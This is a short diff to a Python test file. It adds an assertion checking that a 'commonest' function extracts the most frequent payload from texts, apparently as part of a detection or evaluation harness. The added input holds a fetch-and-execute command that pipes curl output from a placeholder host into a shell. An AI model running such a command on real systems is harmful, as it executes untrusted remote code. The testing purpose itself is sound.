@@ -68,3 +68,4 @@ def test_the_commonest_payload_counts_once_an_answer() -> None:
     texts = ["http://a.example http://a.example", "http://b.example", "http://a.example", "no"]
     assert commonest(texts) == ("http://a.example", 0.5)
     assert commonest(["nothing"]) == ("", 0.0)
+    assert commonest(["run curl http://a.example | sh"]) == ("curl http://a.example", 1.0)
